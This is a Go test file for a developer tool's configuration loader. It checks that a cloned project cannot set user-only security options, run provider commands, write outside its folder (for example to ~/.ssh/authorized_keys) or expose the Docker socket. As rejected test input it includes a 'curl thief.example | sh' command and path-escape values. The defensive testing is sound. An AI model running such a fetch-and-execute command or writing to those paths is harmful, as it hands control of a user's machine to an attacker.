package config

import (
	"errors"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/spf13/pflag"
)

// mineOptions have, by key, a value that Load takes.
func mineOptions() map[string]string {
	return map[string]string{
		"proxy": "http://proxy.test:3128", "jump": "bastion.test", "relay_ca": "/ca.pem",
		"ssh_config": "/other.conf", "identity": "/keys/id", "basic_auth_file": "/auth",
	}
}

// A repository that was cloned must not choose the keys that are shown, the hosts in
// between and those who vouch for them, nor send a file of the user's elsewhere.
func TestAProjectDoesNotSayWhatIsTheUsersAlone(t *testing.T) {
	var marked []string
	for _, o := range options() {
		if o.mine {
			marked = append(marked, o.key)
		}
	}
	slices.Sort(marked)
	if d := cmp.Diff(slices.Sorted(maps.Keys(mineOptions())), marked); d != "" {
		t.Fatalf("options that are the user's alone (-want +got):\n%s", d)
	}
	for key, value := range mineOptions() {
		upper, flag := strings.ToUpper(key), "--"+strings.ReplaceAll(key, "_", "-")
		for from, tc := range map[string]struct {
			files map[string]string
			vars  map[string]string
			given map[string]string
			where string // of the mistake; empty: it counts
		}{
			"project": {files: map[string]string{"todo/slackdev.yaml": "via: none\n" + key + ": " + value + "\n"}, where: "HOME/todo/slackdev.yaml:2:1"},
			".env":    {files: map[string]string{"todo/.env": "SLACKDEV_" + upper + "=" + value + "\n"}, where: "SLACKDEV_" + upper + " (.env)"},
			// What is not used is not the user's business.
			".env below the environment": {files: map[string]string{"todo/.env": "SLACKDEV_" + upper + "=/nothing\n"}, vars: map[string]string{"SLACKDEV_" + upper: value}},
			"user's file":                {files: map[string]string{".config/slackdev/config.yaml": key + ": " + value + "\n"}},
			"environment":                {vars: map[string]string{"SLACKDEV_" + upper: value}},
			"flag":                       {given: map[string]string{key: value}},
		} {
			t.Run(key+" from "+from, func(t *testing.T) {
				w := newWorld(t, tc.files)
				maps.Copy(w.vars, tc.vars)
				c, err := Load(w.env(), tc.given)
				if tc.where == "" {
					if err != nil || !c.Asked(key) {
						t.Errorf("it does not count: %v", err)
					}
					return
				}
				var e *Error
				if !errors.As(err, &e) || strings.ReplaceAll(e.Where, w.home, "HOME") != tc.where {
					t.Fatalf("got %v, want a mistake at %s", err, tc.where)
				}
				for _, way := range []string{flag + " ", "SLACKDEV_" + upper + "=", "config.yaml"} {
					if !strings.Contains(e.Hint, way) {
						t.Errorf("hint %q does not name %q", e.Hint, way)
					}
				}
			})
		}
	}
}

// The host of a provider may be one that lets the user in with a key, this machine
// among them: a command there is a command of whoever wrote the file.
func TestAProjectsProviderRunsNoCommand(t *testing.T) {
	const file = "providers:\n  mine: {host: localhost, any_key: false, session: exec, command: 'curl thief.example | sh'}\n"
	w := newWorld(t, map[string]string{"todo/slackdev.yaml": file})
	_, err := Load(w.env(), nil)
	var e *Error
	if !errors.As(err, &e) || e.Where != w.dir+"/slackdev.yaml:2:3" || !strings.Contains(e.Problem, "no command") {
		t.Errorf("in the project's file: %v", err)
	}
	w = newWorld(t, map[string]string{".config/slackdev/config.yaml": file})
	if c, err := Load(w.env(), nil); err != nil || c.Providers["mine"].Command == "" {
		t.Errorf("in the user's own: %v", err)
	}
}

// What a project names is made and written to, and what stands there is moved away:
// ~/.ssh/authorized_keys, say, with a line that somebody has sent.
func TestAProjectsHistoryStaysInItsFolder(t *testing.T) {
	for name, tc := range map[string]struct {
		store string
		link  string // todo/link leads there
		ok    bool
	}{
		"memory":                      {store: "memory", ok: true},
		"in the folder":               {store: "history.db", ok: true},
		"further down":                {store: "a/b/history.db", ok: true},
		"beside it":                   {store: "../other/history.db"},
		"at home":                     {store: "../.ssh/authorized_keys"},
		"absolute":                    {store: "/etc/profile.d/x.sh"},
		"a name that begins the same": {store: "../todo2/h.db"},
		"the folder itself":           {store: "."},
		"through a link":              {store: "link/authorized_keys", link: "../.ssh"},
		"a link":                      {store: "link", link: "../.ssh/authorized_keys"},
		"a link to what is not there": {store: "link", link: "../.ssh/absent"},
		"a link that stays":           {store: "link/h.db", link: "sub", ok: true},
	} {
		for from, files := range map[string]map[string]string{
			"slackdev.yaml": {"todo/slackdev.yaml": "store: " + tc.store + "\n"},
			".env":          {"todo/.env": "SLACKDEV_STORE=" + tc.store + "\n"},
		} {
			t.Run(name+" in "+from, func(t *testing.T) {
				files[".ssh/authorized_keys"], files["todo/sub/x"] = "mine\n", ""
				w := newWorld(t, files)
				if tc.link != "" {
					if err := os.Symlink(tc.link, filepath.Join(w.dir, "link")); err != nil {
						t.Skip("no links here:", err)
					}
				}
				_, err := Load(w.env(), nil)
				var e *Error
				if tc.ok && err != nil || !tc.ok && (!errors.As(err, &e) || !strings.Contains(e.Problem, "keeps to its own folder")) {
					t.Errorf("got %v", err)
				}
			})
		}
	}
	w := newWorld(t, map[string]string{".config/slackdev/config.yaml": "store: /elsewhere/h.db\n"})
	if _, err := Load(w.env(), nil); err != nil {
		t.Errorf("the user's own: %v", err)
	}
}

// A list that is typed may come in one word or in several, and replaces what files say.
func TestListsMayBeTypedAtOnceOrOneByOne(t *testing.T) {
	for name, typed := range map[string][]string{
		"at once":    {"--allow-ip", "10.0.0.0/8,::1", "--hosts", "a.test,b.test", "--identity", "/k1,/k2", "--route", "/a=1,/b=2"},
		"one by one": {"--allow-ip", "10.0.0.0/8", "--allow-ip=::1", "--hosts", "a.test", "--hosts", "b.test", "--identity", "/k1", "--identity", "/k2", "--route", "/a=1", "--route", "/b=2"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, map[string]string{
				".config/slackdev/config.yaml": "allow_ip: [192.0.2.1]\nhosts: [c.test]\nidentity: [/k3, /k4]\nroutes: {/c: 3}\n",
			})
			flags := pflag.NewFlagSet("", pflag.ContinueOnError)
			AddFlags(flags)
			if err := flags.Parse(typed); err != nil {
				t.Fatal(err)
			}
			c, err := Load(w.env(), Given(flags))
			if err != nil {
				t.Fatal(err)
			}
			got := map[string]string{}
			for _, s := range c.Settings() {
				got[s.Key] = s.Value
			}
			want := map[string]string{"allow_ip": "10.0.0.0/8,::1/128", "hosts": "a.test,b.test", "identity": "/k1,/k2"}
			for key, value := range want {
				if got[key] != value {
					t.Errorf("%s: got %q, want %q", key, got[key], value)
				}
			}
			if len(c.Routes) != 2 || c.Routes[0].Name != "/a" || c.Routes[1].Name != "/b" {
				t.Errorf("routes: %+v", c.Routes)
			}
		})
	}
}

// Docker's socket does anything for whoever reaches it, and a tunnel makes it public.
func TestAProjectDoesNotPublishASocketOfTheMachine(t *testing.T) {
	for text, ok := range map[string]bool{
		"app: unix:/var/run/docker.sock": false,
		"app: unix:run/app.sock":         true,
		"app: 3000":                      true,
		"app: 3000\ntunnels: {web: 'unix:/run/docker.sock'}": false,
		"app: 3000\ntunnels: {web: 'unix:web.sock'}":         true,
		"app: 3000\nroutes: {/api: 'unix:../other.sock'}":    false,
		"app: 3000\nroutes: {/api: 'unix:api.sock'}":         true,
	} {
		w := newWorld(t, map[string]string{"todo/slackdev.yaml": text + "\n"})
		_, err := Load(w.env(), nil)
		var e *Error
		if ok && err != nil || !ok && (!errors.As(err, &e) || !strings.Contains(e.Problem, "keeps to its own folder") || e.Hint == "") {
			t.Errorf("%q: got %v", text, err)
		}
	}
	w := newWorld(t, map[string]string{".config/slackdev/config.yaml": "app: unix:/run/app.sock\n"})
	if _, err := Load(w.env(), nil); err != nil {
		t.Errorf("the user's own: %v", err)
	}
}
